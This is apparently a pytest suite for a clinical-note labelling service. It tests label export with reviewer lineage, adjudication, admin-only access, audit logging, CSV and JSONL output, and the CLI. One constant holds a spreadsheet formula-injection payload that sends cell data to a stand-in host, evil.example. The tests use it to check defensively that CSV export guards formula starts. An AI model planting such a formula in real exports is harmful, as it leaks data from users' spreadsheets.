"""Reviewed labels leave the system with their lineage: the service, its formats and the CLI, on
a real database (a SQLite file always, PostgreSQL when .ci/run gives one)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys

import pytest
from conftest import ROOT
from sqlalchemy import select

from healthmon.config import Settings
from healthmon.errors import ConfigError
from healthmon.escaping import spreadsheet_safe
from healthmon.services import accounts as auth
from healthmon.services.cases import adjudicate_case, case_detail, review_case
from healthmon.services.labels import CSV_COLUMNS, export_labels, labelled_cases, labels_download
from healthmon.storage.db import session_factory, transaction, upgrade
from healthmon.storage.models import AuditEntry
from healthmon.storage.repository import register_version, save_predictions, save_scores
from healthmon.types import Note, Prediction

USERS = {"ann": "annotator", "bob": "annotator", "cid": "clinician", "root": "admin"}
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


def _prediction(probs: dict[str, float], version: str) -> Prediction:
    return Prediction(probabilities=probs, labels=(max(probs, key=probs.get),), model_version=version,
                      problem_type="single_label_classification")


def _review(factory, who, note_id: int, labels: list[str], **kw):
    return review_case(factory, who, note_id, labels, seen_version=case_detail(factory, note_id).review_version,
                       saw_model_output=kw.pop("saw_model_output", True), **kw)


@pytest.fixture()
def db(engine):
    upgrade(engine)
    return session_factory(engine)


@pytest.fixture()
def signed(db, tmp_path):
    settings = Settings(data_dir=tmp_path / "data")
    for name, role in USERS.items():
        auth.add_user(db, None, name, role, f"{name}-password-1")
    return {name: auth.sign_in(db, name, f"{name}-password-1", settings) for name in USERS}


@pytest.fixture()
def reviewed(db, signed):
    """Four scored notes: agreed (then scored again by v2 before the second review), adjudicated
    (and reviewed once more afterwards), hostile to spreadsheets, never reviewed."""
    texts = ["polyuria, HbA1c 8.9%", "biopsy; BP 150/95", HOSTILE, "headache"]
    with transaction(db) as s:
        v1 = register_version(s, "v1", "/models/v1", {"labels": ["diabetes", "hypertension", "cancer"]},
                              status="active")
        ids = save_predictions(s, [Note(text=t, note_id=f"-n{i}" if i == 2 else f"n{i}", patient_id=f"P-{i}")
                                   for i, t in enumerate(texts)],
                               [_prediction({"diabetes": 0.7, "hypertension": 0.2, "cancer": 0.1}, "v1")] * 4, v1)
    agreed, adjudicated, hostile, _ = ids
    ann, bob, root = signed["ann"], signed["bob"], signed["root"]
    _review(db, ann, agreed, ["diabetes"], saw_model_output=False, blind_labels=["cancer"])
    with transaction(db) as s:  # the note is scored again: bob is shown v2's output
        v2 = register_version(s, "v2", "/models/v2", {"labels": ["diabetes", "hypertension", "cancer"]})
        save_scores(s, [agreed], [_prediction({"diabetes": 0.9, "hypertension": 0.05, "cancer": 0.05}, "v2")], v2)
    _review(db, bob, agreed, ["diabetes"])
    _review(db, ann, adjudicated, ["cancer"])
    _review(db, bob, adjudicated, ["hypertension"])
    adjudicate_case(db, root, adjudicated, ["cancer", "hypertension"],
                    seen_version=case_detail(db, adjudicated).review_version, comment="both on imaging and cuff")
    _review(db, bob, adjudicated, ["hypertension"])  # a later review does not undo the adjudication
    _review(db, ann, hostile, ["cancer"], comment="@ann: -see note")
    return ids


def _exports(db) -> list[tuple[str, dict]]:
    with transaction(db) as s:
        return [(e.actor, e.after) for e in s.scalars(select(AuditEntry).where(AuditEntry.action == "labels.export"))]


def test_each_row_carries_its_case_reviewers_adjudication_and_the_version_seen(db, signed, reviewed):
    agreed, adjudicated, hostile, _unreviewed = reviewed
    rows = list(labelled_cases(db, signed["root"]))
    assert [r.case_id for r in rows] == [agreed, adjudicated, hostile]  # the unreviewed note is not a label
    first = rows[0]
    assert (first.note_id, first.patient_id, first.text) == ("n0", "P-0", "polyuria, HbA1c 8.9%")
    assert first.labels == ("diabetes",) and first.label_source == "review" and not first.disagreement
    assert [(r.reviewer, r.labels, r.model_version) for r in first.reviews] == [
        ("ann", ("diabetes",), "v1"), ("bob", ("diabetes",), "v2")]
    assert first.reviews[0].saw_model_output is False and first.reviews[0].blind_labels == ("cancer",)
    assert first.reviews[0].at <= first.reviews[1].at and first.reviews[0].at.tzinfo is not None
    assert [r.case_version for r in first.reviews] == [0, 1]
    # The row's version and scores: the prediction shown to the decision that set the label.
    assert first.model_version == "v2" and first.scores["diabetes"] == pytest.approx(0.9)
    assert first.predicted == ("diabetes",) and first.adjudication is None


def test_the_adjudicated_label_wins_over_every_review(db, signed, reviewed):
    row = next(r for r in labelled_cases(db, "cli") if r.case_id == reviewed[1])
    assert row.labels == ("cancer", "hypertension") and row.label_source == "adjudication"
    assert [(r.reviewer, r.labels) for r in row.reviews] == [
        ("ann", ("cancer",)), ("bob", ("hypertension",)), ("bob", ("hypertension",))]
    adjudication = row.adjudication
    assert adjudication.reviewer == "root" and adjudication.labels == ("cancer", "hypertension")
    assert adjudication.comment == "both on imaging and cuff" and adjudication.model_version == "v1"
    assert row.reviews[1].at <= adjudication.at <= row.reviews[2].at


def test_only_admins_export_and_nothing_is_read_or_audited_for_others(db, signed, reviewed, tmp_path):
    for name in ("ann", "cid"):
        with pytest.raises(auth.PermissionDenied, match="labels export"):
            labelled_cases(db, signed[name])  # refused on the call, not on the first row
        with pytest.raises(auth.PermissionDenied):
            labels_download(db, signed[name], "csv")
        with pytest.raises(auth.PermissionDenied):
            export_labels(db, signed[name], tmp_path / "labels.csv")
    with pytest.raises(auth.AuthError):
        labelled_cases(db, None)
    assert not (tmp_path / "labels.csv").exists() and _exports(db) == []


def test_every_export_is_audited_with_who_how_many_and_where(db, signed, reviewed, tmp_path):
    download = labels_download(db, signed["root"], "jsonl")
    assert download.rows == 3 and download.file_name == "healthmon-labels.jsonl"
    assert export_labels(db, "operator", tmp_path / "labels.csv") == 3
    (admin, first), (operator, second) = _exports(db)
    assert admin == "root" and first == {"cases": 3, "destination": "jsonl download"}
    assert operator == "operator" and second["cases"] == 3
    assert second["destination"] == f"csv file {(tmp_path / 'labels.csv').resolve()}"


def test_csv_guards_spreadsheet_formulas_and_jsonl_keeps_the_text_exactly(db, signed, reviewed, tmp_path):
    assert export_labels(db, "cli", tmp_path / "labels.csv") == 3
    with (tmp_path / "labels.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == CSV_COLUMNS
    hostile = rows[2]
    assert hostile["text"] == "'" + HOSTILE and hostile["note_id"] == "'-n2"
    first_review = json.loads(hostile["reviews"])[0]  # a JSON cell starts with [ and is never guarded
    assert first_review["comment"] == "@ann: -see note" and first_review["reviewer"] == "ann"
    assert rows[0]["text"] == "polyuria, HbA1c 8.9%" and rows[0]["labels"] == "diabetes"
    adjudicated = rows[1]
    assert adjudicated["labels"] == "cancer|hypertension" and adjudicated["adjudicated_by"] == "root"
    assert adjudicated["adjudicated_labels"] == "cancer|hypertension" and adjudicated["label_source"] == "adjudication"
    assert json.loads(adjudicated["scores"]) == {"diabetes": 0.7, "hypertension": 0.2, "cancer": 0.1}
    assert [r["reviewer"] for r in json.loads(adjudicated["reviews"])] == ["ann", "bob", "bob"]
    # JSON Lines, nested, with the stored text unchanged.
    export_labels(db, "cli", tmp_path / "labels.JSONL")
    lines = [json.loads(line) for line in (tmp_path / "labels.JSONL").read_text(encoding="utf-8").splitlines()]
    assert lines[2]["text"] == HOSTILE and lines[2]["note_id"] == "-n2"
    assert lines[1]["adjudication"]["reviewer"] == "root" and lines[1]["labels"] == ["cancer", "hypertension"]
    assert lines[0]["reviews"][1]["model_version"] == "v2" and lines[0]["model_version"] == "v2"


@pytest.mark.parametrize("text, guarded", [
    ("=1+2", "'=1+2"), ("+44 20", "'+44 20"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("'quoted", "''quoted"), ("BP 150/95 = high", "BP 150/95 = high"), ("", ""),
])
def test_the_formula_guard_prefixes_exactly_the_dangerous_starts_and_can_be_undone(text, guarded):
    assert spreadsheet_safe(text) == guarded
    if guarded.startswith("'"):
        assert guarded[1:] == text


def test_an_unknown_suffix_is_refused_with_what_to_do_before_anything_is_read(db, signed, reviewed, tmp_path):
    for name in ("labels.xlsx", "labels"):
        with pytest.raises(ConfigError) as caught:
            export_labels(db, signed["root"], tmp_path / name)
        message = str(caught.value)
        assert "an output file ending in .csv or .jsonl" in message and repr(name) in message
        assert "labels.jsonl" in caught.value.fix
    with pytest.raises(ConfigError, match="existing folder"):
        export_labels(db, "cli", tmp_path / "missing" / "labels.csv")
    with pytest.raises(ConfigError):
        labels_download(db, signed["root"], "xlsx")
    assert _exports(db) == [] and not list(tmp_path.glob("*labels*"))


def test_the_cli_exports_labels_end_to_end(tmp_path):
    from healthmon.services.database import connect

    settings = Settings(data_dir=tmp_path / "data")
    factory = connect(settings)
    auth.add_user(factory, None, "ann", "annotator", "ann-password-1")
    ann = auth.sign_in(factory, "ann", "ann-password-1", settings)
    with transaction(factory) as s:
        version = register_version(s, "v1", "/models/v1", {}, status="active")
        (note_id,) = save_predictions(s, [Note(text="-1 kg in a week", note_id="w1", patient_id="P-1")],
                                      [_prediction({"diabetes": 0.3, "cancer": 0.7}, "v1")], version)
    _review(factory, ann, note_id, ["cancer"])
    factory.kw["bind"].dispose()
    env = {**os.environ, "HEALTHMON_DATA_DIR": str(settings.data_dir)}
    env.pop("HEALTHMON_DATABASE_URL", None)

    def cli(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "healthmon", "export-labels", *args], cwd=ROOT, env=env,
                              capture_output=True, text=True, timeout=300, check=False)

    done = cli("--out", str(tmp_path / "labels.csv"), "--actor", "ops")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {"rows": 1, "format": "csv", "out": str(tmp_path / "labels.csv")}
    row = next(csv.DictReader(io.StringIO((tmp_path / "labels.csv").read_text(encoding="utf-8"))))
    assert row["text"] == "'-1 kg in a week" and row["labels"] == "cancer" and row["model_version"] == "v1"
    assert json.loads(row["reviews"])[0]["reviewer"] == "ann"
    with transaction(factory) as s:
        entry = s.scalar(select(AuditEntry).where(AuditEntry.action == "labels.export"))
        assert entry.actor == "ops" and entry.after["cases"] == 1
    refused = cli("--out", str(tmp_path / "labels.xlsx"))
    assert refused.returncode == 2 and refused.stdout == ""
    assert refused.stderr.strip().splitlines()[-1].startswith(
        "healthmon export-labels: Expected an output file ending in .csv or .jsonl; found 'labels.xlsx'.")
    env["HEALTHMON_DATA_DIR"] = str(tmp_path / "elsewhere")  # the wrong folder: said, not an empty export
    missing = cli("--out", str(tmp_path / "other.jsonl"))
    assert missing.returncode == 2 and "no database at" in missing.stderr
    assert not (tmp_path / "elsewhere").exists() and not (tmp_path / "other.jsonl").exists()
